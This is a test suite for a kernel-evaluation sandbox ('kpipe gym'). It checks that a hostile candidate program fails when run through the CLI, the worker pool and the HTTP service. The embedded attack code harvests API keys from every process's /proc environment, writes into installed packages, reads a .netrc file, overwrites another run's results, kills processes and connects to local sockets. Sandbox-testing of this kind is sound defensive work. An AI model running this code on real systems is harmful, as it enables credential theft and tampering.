"""Hostile candidates, run for real through the paths users take: ``kpipe gym eval`` (a fresh
interpreter per child), ``kpipe gym eval-batch`` (the pool: children forked from a warm zygote)
and ``kpipe gym serve`` with its HTTP client, each started as its own process with an API key in
its environment (the Ray backend runs the same pool: tests/test_distributed.py).

One candidate carries every attack of issue 25 and reports what it got in its exception, the
loot reversed so that redaction alone could not hide a leak: reading every process's
environment, writing into the kpipe package and site-packages, reading a planted ``.netrc``,
reading and rewriting another evaluation's scratch and result, signalling the judge and a
bystander process, TCP, abstract UNIX sockets and a pathname one in the temporary directory (where a
run's Ray and vLLM keep theirs). Each must fail, and the candidate must end
with a plain ``runtime_error``. Nothing here is skipped where the kernel cannot confine: CI's
machines (root, no GPU) must run it.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

import kpipe
import torch
from kpipe.gym.confine.environment import redact_secrets
from kpipe.gym.judge.result import EvalResult
from kpipe.gym.confine.sandbox import OPT_OUT_VARIABLE, SandboxUnavailable, enter_sandbox, handled_access, sandbox_for

import gym_attack_runs
from gym_attack_runs import DEVICE, LEGIT, RELU_REFERENCE

SECRET = "sk-kpipe-confinement-test-0123456789abcdef"
# runtime checks only: the static screen would reject some of these before they run, and a
# screen is exactly what a string trick defeats
# KPIPE_TEST_GYM_DEVICE=cuda runs the same attacks on a GPU (python -m checks.gpu confinement)
PROTOCOL = {"correct_trials": 1, "perf_trials": 2, "warmup": 0, "baseline": "eager", "timeout_s": 120, "reject_findings": [],
            "device": DEVICE}

ATTACKS = '''
import glob, json, os, signal, socket, sys

KPIPE_DIR = os.path.dirname(sys.modules["kpipe"].__file__)
TORCH_DIR = os.path.dirname(sys.modules["torch"].__file__)


def report():
    loot = {{}}
    leaked = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            data = open(f"/proc/{{entry}}/environ", "rb").read().decode(errors="replace")
        except OSError:
            continue
        leaked += [v.split("=", 1)[1][::-1] for v in data.split("\\0") if v.startswith("OPENAI_API_KEY=")]
    loot["environ"] = leaked
    written = []
    for directory in (KPIPE_DIR, TORCH_DIR):
        try:
            with open(os.path.join(directory, {planted_name!r}), "w") as handle:
                handle.write("planted")
            written.append(directory)
        except OSError:
            pass
    loot["install_writes"] = written
    try:
        loot["netrc"] = open({netrc!r}).read()[::-1]
    except OSError:
        loot["netrc"] = None
    others = []
    for path in glob.glob({victim_glob!r}):
        try:
            others.append(open(path, "rb").read().decode(errors="replace")[::-1])
        except OSError:
            pass
        try:
            with open(path, "w") as handle:
                handle.write("overwritten")
            others.append("overwrote " + path)
        except OSError:
            pass
    loot["other_scratch"] = others
    signalled = []
    for pid in ({bystander}, os.getppid()):
        if pid > 1 and pid != os.getpid() and pid != {test_pid}:
            try:
                os.kill(pid, signal.SIGKILL)
                signalled.append(pid)
            except OSError:
                pass
    loot["signalled"] = signalled
    connected = []
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"pwned")
        connected.append("tcp")
    except OSError:
        pass
    for kind, address in (("abstract unix", {abstract!r}), ("pathname unix", {pathname!r})):
        try:
            unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            unix.connect(address)
            unix.sendall(b"pwned")
            connected.append(kind)
        except OSError:
            pass
    loot["connected"] = connected
    return loot


class ModelNew(ModelNew):
    def __init__(self):
        super().__init__()
        raise RuntimeError("ATTACK-REPORT " + json.dumps(report()) + " END")
'''


@dataclass
class Targets:
    """What the attacks aim at, planted by the test."""

    planted_name: str
    netrc: Path
    victim: Path
    bystander: subprocess.Popen[bytes]
    port: int
    abstract: bytes
    pathname: str  # a run's socket where runs keep them (Ray's, vLLM's): in the temporary directory
    received: list[bytes]

    def candidate(self) -> str:
        return LEGIT + ATTACKS.format(planted_name=self.planted_name, netrc=str(self.netrc),
                                      victim_glob=str(self.victim.parent.parent / "kgym-*" / "*"), bystander=self.bystander.pid,
                                      test_pid=os.getpid(), port=self.port, abstract=self.abstract,
                                      pathname=self.pathname)

    def planted_files(self) -> list[Path]:
        return [Path(kpipe.__file__).parent / self.planted_name, Path(torch.__file__).parent / self.planted_name]


def listen(server: socket.socket, received: list[bytes]) -> None:
    server.listen()
    while True:
        try:
            connection, _ = server.accept()
        except OSError:
            return
        with connection:
            received.append(connection.recv(100) or b"<connected>")


@pytest.fixture
def targets(tmp_path: Path) -> Iterator[Targets]:
    netrc = tmp_path / "home" / ".netrc"
    netrc.parent.mkdir()
    netrc.write_text("machine api.openai.com login me password hunter2-netrc-secret\n")
    victim_dir = Path(tempfile.mkdtemp(prefix="kgym-candidate-victim-"))  # another evaluation's scratch, as isolate names them
    victim = victim_dir / "result.pt"
    victim.write_text("the victim's result")
    bystander = subprocess.Popen(["sleep", "300"])
    tcp = socket.create_server(("127.0.0.1", 0))
    abstract = f"\0kpipe-confinement-{os.getpid()}-{tmp_path.name}".encode()
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(abstract)
    socket_dir = Path(tempfile.mkdtemp(prefix="kpipe-run-sockets-", dir="/tmp"))
    named = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    named.bind(str(socket_dir / "service.sock"))
    received: list[bytes] = []
    for server in (tcp, unix, named):
        threading.Thread(target=listen, args=(server, received), daemon=True).start()
    found = Targets(f"kpipe_planted_{os.getpid()}.py", netrc, victim, bystander, tcp.getsockname()[1], abstract,
                    str(socket_dir / "service.sock"), received)
    try:
        yield found
    finally:
        for server in (tcp, unix, named):
            server.shutdown(socket.SHUT_RDWR)
            server.close()
        bystander.kill()
        bystander.wait()
        for path in found.planted_files():
            path.unlink(missing_ok=True)
        victim.unlink(missing_ok=True)
        victim_dir.rmdir()
        shutil.rmtree(socket_dir)


def evaluate_fresh(tmp_path: Path, candidate: str) -> dict[str, object]:
    """``kpipe gym eval`` with an API key in its environment: every child a fresh interpreter."""
    return gym_attack_runs.evaluate_fresh(tmp_path, candidate, PROTOCOL, env={"OPENAI_API_KEY": SECRET})


def evaluate_pool(tmp_path: Path, candidates: list[str]) -> list[dict[str, object]]:
    """``kpipe gym eval-batch`` with an API key in its environment: children forked from its worker's zygote."""
    return gym_attack_runs.evaluate_pool(tmp_path, candidates, PROTOCOL, env={"OPENAI_API_KEY": SECRET})


def evaluate_service(tmp_path: Path, candidate: str) -> dict[str, object]:
    """``kpipe gym serve`` (the HTTP service other RL frameworks use) and its client."""
    from kpipe.gym.serve.client import GymClient

    (tmp_path / "protocol.json").write_text(json.dumps(PROTOCOL))
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    environment = {**os.environ, "OPENAI_API_KEY": SECRET}
    server = subprocess.Popen([sys.executable, "-m", "kpipe.cli", "gym", "serve", "--port", str(port), "--workers", "1",
                               "--protocol", str(tmp_path / "protocol.json"), "--cache", str(tmp_path / "cache.sqlite")],
                              env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    try:
        with GymClient(f"http://127.0.0.1:{port}", poll_s=0.2, progress=False) as client:
            deadline = time.monotonic() + 300
            while True:
                try:
                    client.health()
                    break
                except Exception:  # noqa: BLE001 - not up yet
                    assert server.poll() is None and time.monotonic() < deadline, server.stderr.read()[-3000:] if server.stderr else ""
                    time.sleep(0.5)
            result = client.evaluate(RELU_REFERENCE, candidate)
    finally:
        server.terminate()
        server.wait(timeout=60)
    return result.to_row() if isinstance(result, EvalResult) else dict(result)


def attack_report(result: dict[str, object]) -> dict[str, list[object] | object]:
    diagnostic = str(result["diagnostic"])
    assert result["status"] == "runtime_error", diagnostic
    assert "ATTACK-REPORT " in diagnostic, diagnostic
    return json.loads(diagnostic.split("ATTACK-REPORT ", 1)[1].split(" END", 1)[0])


def assert_every_attack_failed(report: dict[str, object], result: dict[str, object], targets: Targets) -> None:
    assert report == {"environ": [], "install_writes": [], "netrc": None, "other_scratch": [], "signalled": [], "connected": []}
    assert not any(path.exists() for path in targets.planted_files())
    assert targets.victim.read_text() == "the victim's result"
    assert targets.bystander.poll() is None, "the bystander process was killed"
    assert targets.received == []
    text = json.dumps(result)
    assert SECRET not in text and SECRET[::-1] not in text


def test_every_attack_fails_through_kpipe_gym_eval(tmp_path: Path, targets: Targets) -> None:
    result = evaluate_fresh(tmp_path, targets.candidate())
    assert_every_attack_failed(attack_report(result), result, targets)


def test_every_attack_fails_through_the_pool_and_the_pool_still_passes_legit_kernels(tmp_path: Path, targets: Targets) -> None:
    attack, legit = evaluate_pool(tmp_path, [targets.candidate(), LEGIT])
    assert_every_attack_failed(attack_report(attack), attack, targets)
    assert legit["status"] == "pass", legit["diagnostic"]  # confined, a honest kernel compiles, runs and is timed


def test_every_attack_fails_through_the_http_service(tmp_path: Path, targets: Targets) -> None:
    result = evaluate_service(tmp_path, targets.candidate())
    assert_every_attack_failed(attack_report(result), result, targets)


def test_a_correct_kernel_that_writes_into_kpipe_passes_but_writes_nothing(tmp_path: Path, targets: Targets) -> None:
    """The issue's example: a correct ReLU that also writes a file into the kpipe package."""
    planted = Path(kpipe.__file__).parent / targets.planted_name
    candidate = LEGIT + f'''
import sys as _sys


class ModelNew(ModelNew):
    def __init__(self):
        super().__init__()
        try:
            open(_sys.modules["kpipe"].__path__[0] + "/{targets.planted_name}", "w").write("planted")
        except OSError:
            pass
'''
    result = evaluate_fresh(tmp_path, candidate)
    assert result["status"] == "pass", result["diagnostic"]
    assert not planted.exists()


def test_a_leaked_secret_is_redacted_from_diagnostic_and_feedback(tmp_path: Path) -> None:
    """The second line of defence: a value of the judge's secret variables never leaves in a
    result, however the candidate came by it (here it is written into its source)."""
    candidate = LEGIT + f'''

class ModelNew(ModelNew):
    def __init__(self):
        super().__init__()
        raise RuntimeError("found {SECRET}")
'''
    result = evaluate_fresh(tmp_path, candidate)
    assert result["status"] == "runtime_error"
    assert SECRET not in json.dumps(result)
    assert "found [redacted OPENAI_API_KEY]" in str(result["diagnostic"])
    assert "[redacted OPENAI_API_KEY]" in str(result["feedback"])


def test_redaction_replaces_secret_values_only() -> None:
    environ = {"OPENAI_API_KEY": "sk-abcdefgh123", "HF_TOKEN": "hf_zzzzzzzzzz", "PATH": "/usr/bin:/bin", "WANDB_API_KEY": "1"}
    text = "key sk-abcdefgh123 and hf_zzzzzzzzzz in /usr/bin:/bin, 1 run"
    assert redact_secrets(text, environ) == "key [redacted OPENAI_API_KEY] and [redacted HF_TOKEN] in /usr/bin:/bin, 1 run"


def test_every_result_is_redacted_when_it_is_built_or_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-0123456789")
    result = EvalResult(key="k", reference_hash="r", candidate_hash="c", status="runtime_error",
                        diagnostic="leak sk-ant-0123456789", feedback="Status: runtime_error\nsk-ant-0123456789",
                        hack_reasons=["sk-ant-0123456789"])
    assert "sk-ant" not in result.to_json()
    row = {**result.to_row(), "diagnostic": "again sk-ant-0123456789"}
    assert EvalResult.from_row(row).diagnostic == "again [redacted ANTHROPIC_API_KEY]"


def test_no_confinement_refuses_to_start_unless_opted_out_by_name(tmp_path: Path) -> None:
    """A machine that cannot confine (simulated: no user namespaces left to create) makes
    KernelGym refuse, saying why; the named opt-out runs the candidate unconfined."""
    (tmp_path / "reference.py").write_text(RELU_REFERENCE)
    (tmp_path / "candidate.py").write_text(LEGIT)
    (tmp_path / "protocol.json").write_text(json.dumps(PROTOCOL))
    args = ("eval", "--reference", str(tmp_path / "reference.py"), "--candidate", str(tmp_path / "candidate.py"),
            "--protocol", str(tmp_path / "protocol.json"), "--json")
    # a user namespace whose limit on further user namespaces is 0 (the sysctl is per namespace)
    no_namespaces = ["unshare", "--user", "--map-root-user", "sh", "-c", "echo 0 > /proc/sys/user/max_user_namespaces && exec \"$@\"", "sh"]
    refused = subprocess.run([*no_namespaces, sys.executable, "-m", "kpipe.cli", "gym", *args], capture_output=True, text=True,
                             env={**os.environ, OPT_OUT_VARIABLE: ""}, timeout=600)
    assert refused.returncode != 0
    assert "cannot confine candidate programs" in refused.stderr and OPT_OUT_VARIABLE in refused.stderr
    opted = subprocess.run([*no_namespaces, sys.executable, "-m", "kpipe.cli", "gym", "--unconfined", *args], capture_output=True,
                           text=True, timeout=600)
    assert opted.returncode == 0, opted.stderr[-2000:]
    assert json.loads(opted.stdout)["status"] == "pass"


def test_a_sandbox_that_cannot_be_entered_raises_before_anything_runs(tmp_path: Path) -> None:
    """enter_sandbox refuses in a multi-threaded process (the kernel's rule for user
    namespaces), as a SandboxUnavailable naming the step."""
    holder = threading.Event()
    thread = threading.Thread(target=holder.wait, daemon=True)
    thread.start()
    try:
        with pytest.raises(SandboxUnavailable, match="unshare"):
            enter_sandbox(sandbox_for(tmp_path, dict(os.environ)))
    finally:
        holder.set()


def test_landlock_handles_every_right_its_abi_knows() -> None:
    fs, net, scope = handled_access(1)
    assert (fs, net, scope) == ((1 << 13) - 1, 0, 0)
    fs, net, scope = handled_access(7)
    assert fs == (1 << 16) - 1 and net == 3 and scope == 3


def test_the_sandbox_grants_no_home_checkout_or_temporary_directory(tmp_path: Path) -> None:
    sandbox = sandbox_for(tmp_path / "scratch", {"HOME": "/root", "LD_LIBRARY_PATH": "/usr/local/nvidia/lib64"})
    readable = set(sandbox.read)
    assert os.path.expanduser("~") not in readable and os.getcwd() not in readable
    assert tempfile.gettempdir() not in readable and "/" not in readable and "/etc" not in readable
    assert sys.base_prefix in readable or Path(sys.base_prefix).resolve().as_posix() in readable
    assert all(not path.startswith(str(tmp_path)) for path in readable)


def test_opting_out_keeps_unconfined_results_apart_in_the_cache(monkeypatch: pytest.MonkeyPatch) -> None:
    from kpipe.gym import Protocol
    from kpipe.gym.judge.result import eval_key

    confined = eval_key("ref", "cand", Protocol(), "cpu")
    monkeypatch.setenv(OPT_OUT_VARIABLE, "1")
    assert eval_key("ref", "cand", Protocol(), "cpu") != confined


def test_the_bound_pathname_unix_sockets_are_read_from_the_kernels_table(tmp_path: Path) -> None:
    """What the sandbox covers: absolute socket paths, each once; abstract (``@``) and unbound
    sockets are left out (kpipe.gym.confine.sandbox.bound_unix_sockets)."""
    from kpipe.gym.confine.sandbox import bound_unix_sockets

    table = tmp_path / "unix"
    table.write_text("Num       RefCount Protocol Flags    Type St Inode Path\n"
                     "0000000000000000: 00000002 00000000 00010000 0001 01 1001 /run/docker.sock\n"
                     "0000000000000000: 00000003 00000000 00000000 0001 03 1002 /run/docker.sock\n"
                     "0000000000000000: 00000002 00000000 00010000 0001 01 1003 @kpipe-warm-start\n"
                     "0000000000000000: 00000002 00000000 00010000 0001 01 1004 /tmp/a dir/with space.sock\n"
                     "0000000000000000: 00000002 00000000 00010000 0001 01 1005 relative.sock\n"
                     "0000000000000000: 00000003 00000000 00000000 0001 03 1006\n")
    assert bound_unix_sockets(str(table)) == ["/run/docker.sock", "/tmp/a dir/with space.sock"]
    assert bound_unix_sockets(str(tmp_path / "absent")) == []


LATE_SOCKET_CANDIDATE = """
import os, socket, sys
from pathlib import Path
from kpipe.gym.confine.sandbox import Sandbox, enter_sandbox, sandbox_for

scratch, environment, target = sys.argv[1:4]
planned = sandbox_for(Path(scratch), dict(os.environ))
enter_sandbox(Sandbox(planned.scratch, (*planned.read, environment), planned.devices))
print("confined", flush=True)
sys.stdin.readline()  # the socket is bound now
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
        conn.connect(target)
    print("reached", flush=True)
except OSError as exc:
    print(f"refused ({exc.strerror})", flush=True)
print("environment:", ",".join(sorted(os.listdir(environment))), flush=True)
"""


def test_a_socket_bound_under_tmp_after_the_candidate_started_is_out_of_reach_when_its_environment_is_there() -> None:
    """Issue 62, row 14: the sandbox reads an environment under /tmp (an interpreter, a checkout), which
    left /tmp uncovered; a socket bound there after the candidate's start was reachable."""
    root = Path(tempfile.mkdtemp(prefix="kpipe-late-socket-", dir="/tmp"))
    try:
        environment, scratch = root / "environment", root / "scratch"
        environment.mkdir()
        (environment / "marker.txt").write_text("the environment's")
        scratch.mkdir()
        target = root / "late.sock"
        candidate = subprocess.Popen([sys.executable, "-c", LATE_SOCKET_CANDIDATE, str(scratch), str(environment), str(target)],
                                     stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        try:
            assert candidate.stdout is not None and candidate.stdin is not None
            assert candidate.stdout.readline().strip() == "confined", candidate.stderr.read() if candidate.stderr else ""
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
                server.bind(str(target))
                server.listen()
                candidate.stdin.write("go\n")
                candidate.stdin.flush()
                verdict, listing = candidate.stdout.readline().strip(), candidate.stdout.readline().strip()
        finally:
            candidate.kill()
            candidate.wait()
        assert verdict.startswith("refused"), verdict
        assert listing == "environment: marker.txt", listing  # what the sandbox reads there is still there
    finally:
        shutil.rmtree(root)
